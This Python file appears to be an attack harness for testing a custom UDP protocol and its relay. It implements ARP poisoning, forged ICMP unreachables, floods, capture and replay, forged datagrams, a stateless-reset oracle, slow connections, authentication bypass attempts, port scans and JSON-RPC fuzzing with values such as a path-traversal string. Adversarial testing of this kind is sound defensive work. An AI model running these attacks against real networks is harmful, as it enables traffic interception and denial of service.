# SPDX-License-Identifier: BSD-2-Clause
"""Hostile frames and connections; each attack is a function, its name the first argument.

    python3 attacker.py ATTACK ARGUMENT...

Those of the first part send frames on an interface, as a host on that leg does, or as one who
reads along at a switch does (the interface is then the switch's port towards the victim).
Those of the second part are connections.  The last line printed says what was done.
"""
import json
import random
import select
import socket
import struct
import sys
import time

from frames import (HELLO, RESET, RESET_LEN, SEAL_TAG, SUCI_PORT, Datagram, arp, eth, mac, mac_of, noise, packets,
                    udp, unreachable, until)

BROADCAST = b"\xff" * 6


# --- frames -------------------------------------------------------------------
def forge_arp(ifname, seconds, *victims):
    """Says all the time that each of these addresses is here, by reply, request and gratuitously."""
    s, n = packets(ifname), 0
    me = mac_of(s)
    for _ in until(float(seconds)):
        for v in map(socket.inet_aton, victims):
            for other in map(socket.inet_aton, victims):
                s.send(eth(BROADCAST, me, arp(2, me, v, BROADCAST, other), 0x0806))
                s.send(eth(BROADCAST, me, arp(1, me, v, bytes(6), other), 0x0806))
                n += 2
        time.sleep(0.05)
    print(n, "ARP frames")


def icmp(port, seconds, victim, dst):
    """Reads what VICTIM sends to DST, and tells it that DST is not reachable."""
    s, n = packets(port), 0
    victim, dst = socket.inet_aton(victim), socket.inet_aton(dst)
    last = 0
    for _ in until(float(seconds)):
        if not select.select([s], [], [], 0.2)[0]:
            continue
        frame = s.recv(9200)
        d = Datagram(frame)
        if not d.ok or d.src != victim or d.dst != dst or time.monotonic() - last < 0.01:
            continue
        last = time.monotonic()
        for code in (1, 3, 13):
            s.send(eth(d.eth_src, d.eth_dst, unreachable(dst, d.ip[:64], code)))
            n += 1
    print(n, "ICMP unreachable")
    return n > 0


def hello(ifname, seconds, victim, victim_mac, rate):
    """HELLO from addresses all over the leg's /16."""
    s, n = packets(ifname), 0
    me, to, vic = mac_of(s), mac(victim_mac), socket.inet_aton(victim)
    for _ in until(float(seconds)):
        for _ in range(max(1, int(rate) // 100)):
            src = vic[:2] + noise(2)
            body = bytes([0x10 | HELLO, 0, 0, 0]) + bytes(4) + bytes(8) + noise(4) + struct.pack(
                "!HH", 1400, 0) + noise(8) + bytes(16)
            s.send(eth(to, me, udp(src, vic, random.randrange(1024, 65536), SUCI_PORT, body)))
            n += 1
        time.sleep(0.01)
    print(n, "HELLO")


def garbage(ifname, seconds, victim, victim_mac):
    """Datagrams of all types with any content, from one address."""
    s, n = packets(ifname), 0
    me, to, vic = mac_of(s), mac(victim_mac), socket.inet_aton(victim)
    src = vic[:3] + b"\x42"
    for _ in until(float(seconds)):
        for _ in range(20):
            body = bytes([0x10 | random.randrange(16), random.randrange(256)]) + noise(random.randrange(0, 200))
            s.send(eth(to, me, udp(src, vic, SUCI_PORT, SUCI_PORT, body)))
            n += 1
        time.sleep(0.005)
    print(n, "datagrams")


def record(port, seconds, most, path):
    """Keeps what goes through PORT; each frame with its length in front."""
    s, n = packets(port), 0
    with open(path, "wb") as f:
        for _ in until(float(seconds)):
            if n == int(most):
                break
            if select.select([s], [], [], 0.2)[0]:
                frame = s.recv(9200)
                d = Datagram(frame)
                if d.ok and SUCI_PORT in (d.sport, d.dport):
                    f.write(struct.pack("!I", len(frame)) + frame)
                    n += 1
    print(n, "frames recorded")


def recorded(path):
    with open(path, "rb") as f:
        while head := f.read(4):
            yield f.read(struct.unpack("!I", head)[0])


def replay(port, path, victim, victim_mac, how, seconds):
    """What was recorded, once more to VICTIM: as it was, reflected, re-addressed, spliced."""
    s, n, head = packets(port), 0, b""
    vic, to = socket.inet_aton(victim), mac(victim_mac)
    for frame in recorded(path):
        for _ in until(0.0003):
            pass
        d = Datagram(frame)
        if how == "as-was" and d.dst == vic:
            out = d.again()
        elif how == "reflected" and d.src == vic:
            out = d.again(src=d.dst, dst=vic)
        elif how == "readdressed" and d.dst != vic and d.src != vic:
            out = d.again(dst=vic)
        elif how == "spliced" and d.dst == vic:
            out, head = d.again(data=head[:16] + d.data[16:]) if head else d.again(), d.data
        else:
            continue
        s.send(eth(to, d.eth_src, out))
        n += 1
        if n >= 3000 * float(seconds):
            break
    print(n, "frames", how)
    return n > 0


def mangled(rng, d, other):
    """One datagram made of two recorded ones, and where it pretends to come from: any type, and what was
    sealed is flipped, cut, longer, or ends as another one does.  Some stay as they were."""
    data, how = bytearray(d.data), rng.randrange(8)
    if how == 0:
        data[0] = 0x10 | rng.randrange(16)
    elif how == 1:
        data[1] ^= 1 << rng.randrange(8)
    elif how == 2:
        for _ in range(rng.randrange(1, 5)):
            data[rng.randrange(len(data))] ^= 1 << rng.randrange(8)
    elif how == 3:
        data = data[:rng.randrange(1, len(data))]
    elif how == 4:
        data = data[:16] + other.data[16:]
    elif how == 5:
        data[-SEAL_TAG:] = other.data[-SEAL_TAG:]
    elif how == 6:
        data[4:8], data[0] = noise(4), 0x10 | rng.randrange(9)
    src = (d.src, d.dst, other.src)[rng.randrange(3)]
    return src, d.sport, bytes(data)


def forge(port, path, victim, victim_mac, count, rate):
    """COUNT datagrams made of recorded ones, of all types, flipped, cut, spliced, from either end's address
    or a third one's."""
    s, rng = packets(port), random.Random(1)
    vic, to = socket.inet_aton(victim), mac(victim_mac)
    known = [d for d in map(Datagram, recorded(path)) if d.ok]
    began = time.monotonic()
    for n in range(int(count)):
        d = known[rng.randrange(len(known))]
        src, sport, data = mangled(rng, d, known[rng.randrange(len(known))])
        if src == vic:
            src = d.src if d.src != vic else d.dst
        s.send(eth(to, d.eth_src, udp(src, vic, sport, SUCI_PORT, data)))
        if n % 64 == 0:
            time.sleep(max(0, began + n / float(rate) - time.monotonic()))
    print(int(count), "datagrams forged")


def oracle(victim_port, third_port, seconds, victim, victim_mac, third, third_mac):
    """Has the victim, and a third end with the key, seal a RESET for a tag of the victim's own packets, and
    hands each back to the victim as its peer's (RFC 9000, 21.11): about the packet, then about the
    probe with which the victim asks."""
    at_victim, at_third = packets(victim_port), packets(third_port)
    vic, to, thr, to_third = socket.inet_aton(victim), mac(victim_mac), socket.inet_aton(third), mac(third_mac)
    asked = handed = 0
    peer = None
    for _ in until(float(seconds)):
        for s in select.select([at_victim, at_third], [], [], 0.2)[0]:
            d = Datagram(s.recv(9200))
            if not d.ok or d.src not in (vic, thr) or not d.data[1] & 0x80:
                continue
            if d.data[0] & 15 == RESET:
                if peer:
                    at_victim.send(eth(to, peer.eth_dst, udp(peer.dst, vic, peer.dport, SUCI_PORT, d.data)))
                    handed += 1
                continue
            if d.src != vic or d.dst == thr or len(d.data) < 32:
                continue
            peer = d
            # Only as long as an answer is allowed to be; the header as the victim wrote it.
            question = d.data[:16] + noise(max(RESET_LEN, len(d.data)) - 32) + d.data[-SEAL_TAG:]
            at_victim.send(eth(to, d.eth_src, udp(thr[:3] + b"\x42", vic, 7812, SUCI_PORT, question)))
            at_third.send(eth(to_third, d.eth_src, udp(vic, thr, 7812, SUCI_PORT, question)))
            asked += 2
    print(asked, "questions,", handed, "RESETs handed back")
    return asked > 0 and handed > 0


# --- connections --------------------------------------------------------------
def dial(addr, port, source=None):
    s = socket.socket()
    s.setblocking(False)
    if source:
        s.bind((source, 0))
    s.connect_ex((addr, int(port)))
    return s


def hold(addr, port, seconds, count, *sources):
    """Connections that are silent, or say one byte now and then; who is closed comes again."""
    held, opened = [], 0
    sources = sources or (None,)
    for _ in until(float(seconds)):
        while len(held) < int(count):
            try:
                held.append(dial(addr, port, sources[opened % len(sources)]))
            except OSError:
                break
            opened += 1
        time.sleep(0.05)
        still = []
        for i, s in enumerate(held):
            try:
                if i % 2:
                    s.send(b"A")
                if s.recv(100) != b"":
                    still.append(s)
                    continue
                s.close()
            except BlockingIOError:
                still.append(s)
            except OSError:
                s.close()
        held = still
    print(opened, "connections")


def squat(addr, port, seconds, key):
    """Takes client ranks without the key: by no authentication, then by a wrong one.  Who is
    refused is closed at once; a rank is taken if the connection is still open half a second later.
    Somebody has to answer, else nothing was tried."""
    taken = tries = heard = 0
    for _ in until(float(seconds)):
        for mask in (1, 2):
            tries += 1
            said = False
            try:
                s = socket.create_connection((addr, int(port)), 2)
                s.settimeout(2)
                s.sendall(b"AUTH" + struct.pack("!II", 4, mask))
                got = len(s.recv(8))
                heard += 1
                if got < 8:
                    continue
                if mask == 2:
                    s.sendall(struct.pack("!Q", int(key)))
                s.sendall(b"IMPI" + struct.pack("!II", 4, tries % 2))
                s.settimeout(0.5)
                said = True
                if s.recv(100):
                    taken += 1
            except socket.timeout:
                taken += said
            except ConnectionResetError:
                heard += 1
            except OSError:
                pass
    print(tries, "tries,", heard, "answered,", taken, "ranks taken or held")
    return heard > 0 and taken == 0


def scan(addr, *ports):
    """Connects to ports that are not for this leg; says which answer."""
    open_ports = []
    for p in ports:
        try:
            socket.create_connection((addr, int(p)), 1.5).close()
            open_ports.append(p)
        except OSError:
            pass
    print("open:", *open_ports)
    return not open_ports


def client(addr, port, key, rank):
    """An honest client that says its rank: whether the connection is still open a second later."""
    s = socket.create_connection((addr, int(port)), 5)
    s.settimeout(5)
    s.sendall(b"AUTH" + struct.pack("!II", 4, 2))
    if len(s.recv(8)) < 8:
        return False
    s.sendall(struct.pack("!Q", int(key)) + b"IMPI" + struct.pack("!II", 4, int(rank)))
    s.settimeout(1)
    try:
        open_still = s.recv(100) != b""
    except socket.timeout:
        open_still = True
    except OSError:
        open_still = False
    print("a client", "has a place" if open_still else "is refused")
    return True


def probe(addr, port, seconds):
    """The longest time until a client's AUTH is answered, over so many seconds."""
    worst = 0.0
    for _ in until(float(seconds)):
        began = time.monotonic()
        while True:
            try:
                s = socket.create_connection((addr, int(port)), 10)
                s.settimeout(10)
                s.sendall(b"AUTH" + struct.pack("!II", 4, 3))
                if len(s.recv(8)) == 8:
                    s.close()
                    break
            except OSError:
                time.sleep(0.05)
            if time.monotonic() - began > 20:
                break
        worst = max(worst, time.monotonic() - began)
        time.sleep(0.2)
    print(f"{worst:.2f}")


# What may stand in place of any value of a request.
ODD = [None, True, -1, 0, 1, 2**31, 2**63 - 1, -2**63, 1e308, 0.5, "", "x" * 5000, "\u0000", "../../etc/passwd",
       [], [[[[]]]], {}, {"a": {"b": {}}}, ["a"] * 2000, {str(i): i for i in range(500)}]


def asks_of(path):
    """What the relay says it can be asked: method to names of parameters.  All but drain, which does
    what it is told with no parameter at all."""
    with socket.socket(socket.AF_UNIX) as s:
        s.settimeout(20)
        s.connect(path)
        s.sendall(b'{"jsonrpc":"2.0","method":"methods","id":1}\n')
        with s.makefile() as f:
            told = json.loads(f.readline())["result"]
    asks = {m["name"]: [p["name"] for p in m["params"]] for m in told if m["name"] != "drain"}
    return dict(asks, rm=[], **{"": []})


def mutated(rng, asks):
    method = rng.choice(list(asks))
    names = asks[method] if rng.random() < 0.7 else sum(asks.values(), [])
    r = {"jsonrpc": "2.0", "method": method, "id": rng.randrange(100),
         "params": {k: rng.choice(ODD) for k in rng.sample(names, min(len(names), rng.randrange(0, 4)))}}
    if rng.random() < 0.5:
        r[rng.choice(["jsonrpc", "method", "params", "id", "more"])] = rng.choice(ODD)
    return [r] * rng.randrange(1, 9) if rng.random() < 0.1 else r


def rpc(path, seconds, seed):
    """Requests that are valid JSON and hardly ever valid requests."""
    rng, n, answers, asks = random.Random(int(seed)), 0, 0, asks_of(path)
    for _ in until(float(seconds)):
        s = socket.socket(socket.AF_UNIX)
        s.settimeout(5)
        s.connect(path)
        try:
            for _ in range(20):
                s.sendall(json.dumps(mutated(rng, asks)).encode() + b"\n")
                n += 1
                if select.select([s], [], [], 0.05)[0]:
                    answers += len(s.recv(1 << 20)) > 0
        except OSError:
            pass
        s.close()
    print(n, "requests of", len(asks), "methods,", answers, "answers")
    return answers > 0


def listen(port):
    """A service of the front end that is nobody's business on the legs (until killed)."""
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(port)))
    s.listen(64)
    while True:
        s.accept()[0].close()


ATTACKS = [forge_arp, icmp, hello, garbage, record, replay, forge, oracle, hold, squat, client, scan, probe, rpc, listen]

if __name__ == "__main__":
    chosen = {f.__name__: f for f in ATTACKS}[sys.argv[1]]
    sys.exit(0 if chosen(*sys.argv[2:]) in (None, True) else 1)
